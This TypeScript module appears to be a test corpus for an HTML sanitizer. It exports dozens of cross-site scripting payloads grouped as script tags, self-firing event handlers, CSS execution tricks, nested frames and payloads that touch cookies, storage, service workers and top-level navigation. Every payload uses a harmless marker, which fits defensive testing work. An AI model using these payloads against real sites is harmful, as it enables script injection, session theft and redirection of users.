/** Elements that run by themselves as soon as they stand in a page, and those that reach for what is around them. */
import { raise, raiseAround } from './raise.ts'

const scripts = [
  `<script>${raise}</script>`,
  `<SCRIPT/x>${raise}</SCRIPT>`,
  `<script>${raise}//`,
  `<scr<script>ipt>${raise}</scr</script>ipt>`,
  `<script type=module>${raise}</script>`,
  `<script src=data:text/javascript,${raise}></script>`,
  `<script>${raise}</script\n>`,
  `<script><!--\n${raise}\n--></script>`,
  `<script async>${raise}</script>`,
  `<script language=javascript1.2>${raise}</script>`,
  `<script type="">${raise}</script>`,
  `<script>\u2028${raise}\u2029</script>`,
  `<script src=x onerror=${raise}></script>`,
]

/** Handlers that need nobody to press anything. */
const handlers = [
  `<img src=x onerror=${raise}>`,
  `<image src=x onerror=${raise}>`,
  `<img srcset=x onerror=${raise}>`,
  `<picture><source srcset=x><img onerror=${raise}></picture>`,
  `<body onload=${raise}>`,
  `<body onpageshow=${raise}>`,
  `<input autofocus onfocus=${raise}>`,
  `<input type=image src=x onerror=${raise}>`,
  `<textarea autofocus onfocus=${raise}></textarea>`,
  `<select autofocus onfocus=${raise}></select>`,
  `<button autofocus onfocus=${raise}>x</button>`,
  `<a href=x autofocus onfocus=${raise}>x</a>`,
  `<p tabindex=0 autofocus onfocus=${raise}>x`,
  `<p tabindex=0 autofocus onfocusin=${raise}>x`,
  `<x contenteditable onblur=${raise} autofocus>x`,
  `<details open ontoggle=${raise}>x</details>`,
  `<p popover onbeforetoggle=${raise}>x</p>`,
  `<video><source onerror=${raise}></video>`,
  `<video src=x onloadstart=${raise}></video>`,
  `<video controls><track default src=x onerror=${raise}></video>`,
  `<audio src=x onerror=${raise}></audio>`,
  `<marquee onstart=${raise}>x</marquee>`,
  `<object data=x onerror=${raise}></object>`,
  `<link rel=stylesheet href="data:text/css,*{}" onload=${raise}>`,
  `<link rel=preload as=image href=x onerror=${raise}>`,
  `<iframe onload=${raise}></iframe>`,
  `<frameset onload=${raise}><frame src=about:blank></frameset>`,
  `<p style=content-visibility:auto oncontentvisibilityautostatechange=${raise}>x`,
  `<p style=overflow:auto;height:1px onscrollend=${raise}><br><br><input autofocus>`,
  `<p onmouseover=${raise} onpointerenter=${raise} style=position:fixed;inset:0>x`,
]

/** Styles that run, or that bring what they style to run. */
const styles = [
  `<style>@import 'x'</style><style onload=${raise}></style>`,
  `<div style="animation:x" onanimationstart=${raise}><style>@keyframes x{}</style></div>`,
  `<p style="transition:color 1ms" ontransitionrun=${raise} class=x><style>.x{color:red}</style>`,
  `<p style="width:expression(${raise})">x`,
  `<p style="behavior:url(#default#time2)" onbegin=${raise}>x`,
  `<p style="-moz-binding:url(data:text/xml,${raise})">x`,
  `<p style="background:url(javascript:${raise})">x`,
  `<p style="background:u\\72l(java\\73 cript:${raise})">x`,
  `<style>@import 'javascript:${raise}';</style>`,
  `<style>*{background:url("javascript:${raise}")}</style>`,
  `<style></style/><img src=x onerror=${raise}></style>`,
  `<style>a{content:"</style><img src=x onerror=${raise}>"}</style>`,
]

/** Documents within the document. */
const frames = [
  `<iframe srcdoc="<script>parent.${raise}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${raise}&lt;/script&gt;"></iframe>`,
  `<iframe srcdoc="&#x26;lt;img src=x onerror=parent.${raise}>"></iframe>`,
  `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>parent.${raise}</script>"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${raise}</script>"></iframe>`,
  `<iframe src="blob:x" onload=${raise}></iframe>`,
  `<object data="data:text/html,<script>parent.${raise}</script>"></object>`,
  `<object type=text/html data=x onload=${raise}><param name=src value=x></object>`,
  `<embed src="data:text/html,<script>parent.${raise}</script>">`,
  `<embed src=x onload=${raise}>`,
  `<portal src="javascript:${raise}" onload=${raise}></portal>`,
  `<fencedframe onload=${raise}></fencedframe>`,
]

/** What would read, move or cover the page around it. */
const around = [
  ...raiseAround.flatMap((code) => [
    `<script>${code}</script>`,
    `<img src=x onerror=${code}>`,
    `<svg onload=${code}>`,
    `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  ]),
  `<script>document.cookie="__xss=1"</script>`,
  `<img src=x onerror='document.cookie="__xss=1"'>`,
  `<meta http-equiv=set-cookie content=__xss=1>`,
  `<script>top.location.hash="__xss"</script>`,
  `<script>top.name="__xss"</script>`,
  `<script>localStorage.__xss=1;sessionStorage.__xss=1</script>`,
  `<script>opener.__xss=1</script>`,
  `<script>parent.postMessage("__xss","*");new BroadcastChannel("__xss").postMessage(1)</script>`,
  `<script>navigator.serviceWorker.register("/__xss.js")</script>`,
  `<script>history.pushState(0,"","/__xss")</script>`,
  `<script>document.domain=document.domain;top.document.title="__xss"</script>`,
  `<base target=_top><a href="https://elsewhere.example/__xss" autofocus onfocus=this.click()>x</a>`,
  `<a id=__away href="https://elsewhere.example/__xss" target=_top>x</a><script>__away.click()</script>`,
]

export const elements: readonly string[] = [...scripts, ...handlers, ...styles, ...frames, ...around]
